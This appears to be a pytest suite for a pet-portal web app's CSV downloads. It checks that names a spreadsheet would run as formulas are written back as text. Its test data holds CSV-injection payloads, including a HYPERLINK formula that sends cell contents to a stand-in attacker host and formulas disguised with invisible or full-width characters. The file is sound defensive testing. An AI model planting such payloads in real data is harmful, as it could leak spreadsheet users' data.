"""The CSV downloads, against the real reference stores: the animal list (`/animals.csv`) and the audit log
(`/admin/audit.csv`), and what they share with an import's `results.csv`.

The list's download holds exactly the animals the list page shows for the same query, from one listPets call,
and refuses what the page refuses; the audit log's is for those who may read its page, newest first, in the
page's columns, read a batch at a time. Every download is streamed, and a text a spreadsheet would run comes
back with a leading '.
"""

import csv
import io
import re
from contextlib import contextmanager
from pathlib import Path

import pytest
from flask import request_finished, template_rendered
from sqlalchemy import event

from petportal.data import audit
from petportal.data.models import AuditEntry
from petportal.extensions import db
from petportal.web.downloads import spreadsheet_safe

from support.helpers import AuthActions, creates, finished, post_form, press, upload
from support.servers import free_port

BOM = "\ufeff"
ANIMALS_HEADER = ["id", "name", "categoryId", "category", "status"]
AUDIT_HEADER = ["When (UTC)", "Who", "What", "Account", "Environment", "Details", "From"]
# What people (or a store's other clients) may name things, that a spreadsheet would run or mangle.
HOSTILE = ['=HYPERLINK("http://evil.example/?"&A1,"open")', "+1", "-2", "@SUM(A1:A9)", "\tTabbed", "\rReturned"]
# Names the import's own checks let through (they refuse control characters, and trim tabs).
HOSTILE_IMPORTED = HOSTILE[:4]
# The same, behind what a person does not see or reads as the same: leading spaces (a no-break and an ideographic
# one too), zero-width characters, a byte order mark, full-width forms (PRODUCT.md's `/animals.csv` row).
DISGUISED = [
    " =1+1",
    "\u00a0+1",
    "\u200b-2",
    "\u2060\u200d@SUM(A1)",
    "\ufeff=HYPERLINK(A1)",
    '\uff1dHYPERLINK("http://evil.example/")',
    "\u3000\uff0b1",
    "\ufe62\uff11",  # a small plus sign, then a full-width 1
    "Rex;\u200b=1+1",
]


def rows_of(response):
    """The CSV's rows, header first, after the byte order mark every download starts with."""
    text = response.get_data(as_text=True)
    assert text.startswith(BOM)
    return list(csv.reader(io.StringIO(text.removeprefix(BOM), newline="")))


def list_calls(store):
    return [r.target for r in store.received if r.method == "GET" and r.target.startswith("/v1/pets?")]


def label(admin, category_id, text):
    response = post_form(
        admin,
        "/admin/categories",
        "/admin/categories",
        environment="production",
        category_id=str(category_id),
        label=text,
    )
    assert response.status_code == 303, response.text


@contextmanager
def shown_lists(app):
    """The animals and labels each list page drawn meanwhile was given."""
    seen = []

    def keep(_sender, template, context, **_extra):
        if template.name == "catalog/list.html" and context.get("animals") is not None:
            seen.append((context["animals"], context["labels"]))

    with template_rendered.connected_to(keep, app):
        yield seen


@contextmanager
def sent_responses(app):
    """The Flask responses of the requests answered meanwhile, as the views and hooks made them."""
    seen = []

    def keep(_sender, response, **_extra):
        seen.append(response)

    with request_finished.connected_to(keep, app):
        yield seen


def as_cells(animals, labels):
    """The list page's animals as the download writes them."""
    return [[str(a.id), a.name, str(a.category_id), labels.get(a.category_id, ""), a.status or ""] for a in animals]


# --- the animal list ------------------------------------------------------------------------------------


@pytest.fixture
def stocked(portal_app, auth_for, production_store):
    """The production store with a few more animals, two categories labelled ("Cats" for 2, "Dogs" for 1)."""
    for name, category, status in [("Zoë", 2, "available"), ("Ziggy", 1, "pending"), ("Amber", 7, "available")]:
        production_store.add(name, category, status)
    admin = auth_for(portal_app, "admin")
    label(admin, 1, "Dogs")
    label(admin, 2, "Cats")
    return portal_app


@pytest.mark.parametrize(
    "query",
    [
        "",
        "status=available",
        "status=pending",
        "q=i",
        "q=ZOE",
        "sort=name",
        "sort=category",
        "sort=status",
        "sort=-name",
        "sort=-category",
        "sort=-status",
        "sort=-id",
        "limit=2",
        "limit=3&sort=name",
        "status=available&q=e&sort=category&limit=50",
    ],
)
def test_the_csv_holds_the_animals_the_list_shows_for_the_same_query_from_one_list_pets_call(
    stocked, production_store, query
):
    anyone = stocked.test_client()
    with shown_lists(stocked) as shown:
        page = anyone.get(f"/animals?{query}")
    assert page.status_code == 200
    [(animals, labels)] = shown
    page_calls = list_calls(production_store)
    production_store.received.clear()

    download = anyone.get(f"/animals.csv?{query}")
    assert download.status_code == 200
    assert list_calls(production_store) == page_calls and len(page_calls) == 1  # the same single listPets call
    header, *rows = rows_of(download)
    assert header == ANIMALS_HEADER
    assert rows == as_cells(animals, labels)


def test_the_csv_names_the_labelled_categories_and_leaves_the_others_empty(stocked):
    _, *rows = rows_of(stocked.test_client().get("/animals.csv?sort=name"))
    categories = {row[1]: (row[2], row[3]) for row in rows}
    assert categories["Zoë"] == ("2", "Cats") and categories["Ziggy"] == ("1", "Dogs")
    assert categories["Amber"] == ("7", "")
    assert categories["Nibbles"] == ("4", "") and [row[4] for row in rows if row[1] == "Nibbles"] == [""]


def test_the_csv_is_a_streamed_utf8_attachment_never_stored(portal_app, production_store):
    production_store.add("Zoë", 2, "available")
    with sent_responses(portal_app) as sent:
        response = portal_app.test_client().get("/animals.csv")
    assert [flask_response.is_streamed for flask_response in sent] == [True]
    assert "Content-Length" not in response.headers
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="animals-production.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    assert response.get_data().startswith(BOM.encode() + b"id,name,categoryId,category,status\r\n")
    assert "Zoë" in [row[1] for row in rows_of(response)]


def test_a_previewing_admin_downloads_the_environment_they_see(portal_app, auth_for, staging_store):
    admin = auth_for(portal_app, "admin")
    post_form(admin, "/admin/environment", "/admin/environment/preview", environment="staging")
    response = admin.get("/animals.csv")
    assert response.headers["Content-Disposition"] == 'attachment; filename="animals-staging.csv"'
    assert [row[1] for row in rows_of(response)[1:]] == ["Staging Sam"]


def test_names_and_labels_a_spreadsheet_would_run_come_back_as_text(portal_app, auth_for, production_store):
    production_store.received.clear()
    for name in HOSTILE:
        production_store.add(name, 12, "sold")
    production_store.add("Minus", -2, "sold")  # the store's own negative id, which the portal never sends
    label(auth_for(portal_app, "admin"), 12, "=1+1")
    _, *rows = rows_of(portal_app.test_client().get("/animals.csv?status=sold"))
    hostile = [row for row in rows if row[2] == "12"]
    assert sorted(row[1] for row in hostile) == sorted("'" + name for name in HOSTILE)
    # The category id stays the number it is, a negative one too; the label is text like any other.
    assert {(row[2], row[3]) for row in hostile} == {("12", "'=1+1")}
    assert [row[2] for row in rows if row[1] == "Minus"] == ["-2"]


@pytest.mark.parametrize(
    "query, reason",
    [
        ("limit=0", "Choose a number from 1 to 100."),
        ("limit=101", "Choose a number from 1 to 100."),
        ("limit=abc", "Choose a number from 1 to 100."),
        ("limit=%D9%A1", "Choose a number from 1 to 100."),  # an Arabic-Indic 1
        ("status=bogus", "Not a valid choice"),
        ("sort=bogus", "Sort by id, name, category or status"),
        ("sort=--name", "Sort by id, name, category or status"),
        ("q=" + "x" * 101, "Search with at most 100 characters."),
        ("q=a%00b", "must not contain control characters"),
    ],
)
def test_a_query_the_list_refuses_gets_a_400_saying_why_and_asks_nothing_of_the_store(
    client, production_store, query, reason
):
    assert client.get(f"/animals?{query}").status_code == 400
    response = client.get(f"/animals.csv?{query}")
    assert response.status_code == 400
    assert "The animals cannot be downloaded for this query." in response.text
    assert reason in response.text
    assert "Content-Disposition" not in response.headers
    assert list_calls(production_store) == []


def test_a_store_that_is_down_or_refuses_the_key_gets_the_list_pages_own_answer(make_portal, staging_store):
    down = make_portal.over(f"http://127.0.0.1:{free_port()}/v1", staging_store.url)
    # The staging store does not know the production key.
    refusing = make_portal.over(staging_store.url, staging_store.url)
    for app, status in ((down, 503), (refusing, 502)):
        anyone = app.test_client()
        page, download = anyone.get("/animals"), anyone.get("/animals.csv")
        assert page.status_code == download.status_code == status
        assert download.mimetype == "text/html" and "Content-Disposition" not in download.headers


def test_customers_keep_downloading_the_list_while_the_portals_database_is_down(make_portal):
    app = make_portal()
    with app.app_context():
        database = Path(db.engine.url.database)
        db.engine.dispose()
    database.unlink()
    database.mkdir()  # a database that cannot be opened, as a server that went away
    response = app.test_client().get("/animals.csv")
    assert response.status_code == 200
    assert [row[1] for row in rows_of(response)[1:]] == ["Rex", "Mittens", "Goldie", "Nibbles"]


# --- the audit log --------------------------------------------------------------------------------------


def test_only_those_who_may_read_the_audit_page_download_the_log(portal_app, auth_for):
    anonymous = portal_app.test_client()
    for path in ("/admin/audit", "/admin/audit.csv"):
        response = anonymous.get(path)
        assert response.status_code == 302
        assert response.headers["Location"].startswith("/login?next=")
        assert auth_for(portal_app, "staff").get(path).status_code == 403
        assert auth_for(portal_app, "admin").get(path).status_code == 200


def test_an_admin_without_the_required_second_factor_is_sent_to_set_it_up_for_the_download_too(make_portal, auth_for):
    app = make_portal(REQUIRE_ADMIN_MFA=True)
    admin = auth_for(app, "admin")
    for path in ("/admin/audit", "/admin/audit.csv"):
        response = admin.get(path)
        assert (response.status_code, response.headers["Location"]) == (303, "/account/mfa")


def failed_logins(app, usernames):
    """A failed login with each of `usernames`, each from an address of its own (the limits count per address)."""
    for number, username in enumerate(usernames, start=1):
        response = AuthActions(app.test_client()).login(username, "not the password", address=f"10.9.0.{number}")
        assert response.status_code == 401


def stored_newest_first(app):
    with app.app_context():
        return db.session.scalars(db.select(AuditEntry).order_by(AuditEntry.id.desc())).all()


def test_the_audit_csv_is_the_whole_log_newest_first_in_the_pages_columns(make_portal, database_url, auth_for):
    app = make_portal(SQLALCHEMY_DATABASE_URI=database_url)
    failed_logins(app, ["mallory", "trudy"])
    admin = auth_for(app, "admin")
    label(admin, 3, "Fish")
    page = admin.get("/admin/audit").text
    with sent_responses(app) as sent:
        response = admin.get("/admin/audit.csv")
    assert response.status_code == 200 and [flask_response.is_streamed for flask_response in sent] == [True]
    assert response.headers["Content-Type"] == "text/csv; charset=utf-8"
    assert response.headers["Content-Disposition"] == 'attachment; filename="audit-log.csv"'
    assert response.headers["Cache-Control"] == "no-store"
    header, *rows = rows_of(response)
    # The page's columns; its times are in the reader's zone (each says which), the file's are in UTC and say so.
    assert header == AUDIT_HEADER
    assert ["When (UTC)", *re.findall(r'<th scope="col">([^<]*)</th>', page)[1:]] == AUDIT_HEADER
    entries = stored_newest_first(app)
    assert [row[:5] + row[6:] for row in rows] == [
        [
            entry.at.strftime("%Y-%m-%d %H:%M:%S"),
            entry.actor,
            entry.action.replace("_", " "),
            entry.target or "",
            entry.environment or "",
            entry.remote_addr or "",
        ]
        for entry in entries
    ]
    assert [row[2] for row in rows] == ["category labelled", "login", "login failed", "login failed"]
    assert [row[5] for row in rows] == ["category 3 labelled “Fish”", "", "", ""]
    assert rows[0][4] == "production"
    assert [row[1] for row in rows[2:]] == ["trudy", "mallory"]


def test_user_names_a_spreadsheet_would_run_come_back_as_text_in_the_audit_csv(portal_app, auth_for):
    failed_logins(portal_app, HOSTILE)
    _, *rows = rows_of(auth_for(portal_app, "admin").get("/admin/audit.csv"))
    failed = [row[1] for row in rows if row[2] == "login failed"]
    # A control character of a name from outside is kept as U+FFFD (audit.bounded), which no spreadsheet runs.
    assert failed == list(reversed(["'" + name for name in HOSTILE[:4]] + ["\ufffdTabbed", "\ufffdReturned"]))


def test_formulas_behind_spaces_zero_width_characters_a_bom_or_in_full_width_come_back_as_text(
    portal_app, auth_for, production_store
):
    for name in DISGUISED:
        production_store.add(name, -5, "sold")
    _, *rows = rows_of(portal_app.test_client().get("/animals.csv?status=sold"))
    names = sorted(row[1] for row in rows if row[2] == "-5")
    assert names == sorted([*("'" + name for name in DISGUISED[:-1]), "Rex;'\u200b=1+1"])
    staff = auth_for(portal_app, "staff")
    path = upload(staff, as_csv([("name", "categoryId", "status"), *((name, -6, "") for name in DISGUISED[:-1])]))
    path = path.headers["Location"]
    press(staff, path, "start")
    finished(staff, path)
    _, *results = rows_of(staff.get(f"{path}/results.csv"))
    assert results and all(row[1].startswith("'") for row in results), results


def test_a_cell_a_semicolon_spreadsheet_would_split_has_no_part_it_would_run(portal_app, auth_for, production_store):
    # German and Spanish spreadsheets split a CSV line on ";", whatever the quotes say; a name may hold a line break.
    for name in ("Rex;=1+1;", "Max;=HYPERLINK(A1);", "Bo, @SUM(1)", "Lu\n-2+3"):
        production_store.add(name, -4, "sold")
    failed_logins(portal_app, ["bob;=1+1;"])
    _, *rows = rows_of(portal_app.test_client().get("/animals.csv?status=sold"))
    names = sorted(row[1] for row in rows if row[2] == "-4")
    assert names == sorted(["Rex;'=1+1;", "Max;'=HYPERLINK(A1);", "Bo,' @SUM(1)", "Lu\n'-2+3"])
    _, *logged = rows_of(auth_for(portal_app, "admin").get("/admin/audit.csv"))
    assert "bob;'=1+1;" in [row[1] for row in logged]
    # A name with a hyphen, a comma or a semicolon and no formula after them is left as it is.
    production_store.add("Jean-Luc; the, tabby", -4, "sold")
    _, *rows = rows_of(portal_app.test_client().get("/animals.csv?status=sold"))
    assert "Jean-Luc; the, tabby" in [row[1] for row in rows]


def test_the_audit_csv_reads_the_log_a_batch_at_a_time(make_portal, database_url, auth_for, monkeypatch):
    monkeypatch.setattr(audit, "BATCH", 2)
    app = make_portal(SQLALCHEMY_DATABASE_URI=database_url)
    failed_logins(app, [f"visitor{number}" for number in range(6)])
    admin = auth_for(app, "admin")
    expected = [entry.actor for entry in stored_newest_first(app)]
    assert len(expected) == 7
    statements = []
    with app.app_context():
        engine = db.engine

    def keep(_conn, _cursor, statement, _parameters, _context, _many):
        if "FROM audit_log" in statement:
            statements.append(statement)

    event.listen(engine, "before_cursor_execute", keep)
    try:
        _, *rows = rows_of(admin.get("/admin/audit.csv"))
    finally:
        event.remove(engine, "before_cursor_execute", keep)
    assert [row[1] for row in rows] == expected
    assert len(statements) == 4 and all("LIMIT" in statement for statement in statements)  # 2 + 2 + 2 + 1


# --- what every download shares ---------------------------------------------------------------------------


@pytest.mark.parametrize(
    "cell, written",
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("Rex", "Rex"),
        ("", ""),
        ("a=b", "a=b"),
        ("  =1", "'  =1"),
        ("\u00a0\u202f+1", "'\u00a0\u202f+1"),
        ("\u200b\u200c-2", "'\u200b\u200c-2"),
        ("\ufeff@SUM(A1)", "'\ufeff@SUM(A1)"),
        ("\uff1d1+1", "'\uff1d1+1"),
        ("\uff20SUM(A1)", "'\uff20SUM(A1)"),
        ("\uff0d2", "'\uff0d2"),
        ("Rex;\u3000\uff1d1", "Rex;'\u3000\uff1d1"),
        ("\u200bRex", "\u200bRex"),
        # Found by an outside review: fillers that show as nothing, a combining grapheme joiner, a NUL.
        ("\u3164=1+1", "'\u3164=1+1"),
        ("\u115f=1", "'\u115f=1"),
        ("\u2800=1", "'\u2800=1"),
        ("\u034f=1", "'\u034f=1"),
        ("\x00=1", "'\x00=1"),
        ("\uff32ex = 1", "\uff32ex = 1"),
        (" ", " "),
        (-2, -2),
        (None, None),
    ],
)
def test_only_text_that_a_spreadsheet_would_run_is_changed(cell, written):
    assert spreadsheet_safe(cell) == written


def as_csv(rows):
    out = io.StringIO()
    csv.writer(out).writerows(rows)
    return out.getvalue()


def test_the_import_results_csv_writes_names_a_spreadsheet_would_run_as_text(portal_app, auth_for, production_store):
    staff = auth_for(portal_app, "staff")
    path = upload(staff, as_csv([("name", "categoryId", "status"), *((name, 3, "") for name in HOSTILE_IMPORTED)]))
    path = path.headers["Location"]
    press(staff, path, "start")
    assert finished(staff, path)["created"] == len(HOSTILE_IMPORTED)
    with sent_responses(portal_app) as sent:
        response = staff.get(f"{path}/results.csv")
    assert [flask_response.is_streamed for flask_response in sent] == [True]
    header, *rows = rows_of(response)
    assert header == ["line", "name", "categoryId", "status", "outcome", "id", "message"]
    assert [row[1] for row in rows] == ["'" + name for name in HOSTILE_IMPORTED]
    # The category id stays the number it is.
    assert {row[2] for row in rows} == {"3"} and {row[4] for row in rows} == {"created"}
    assert sorted(created["name"] for created in creates(production_store)) == sorted(HOSTILE_IMPORTED)
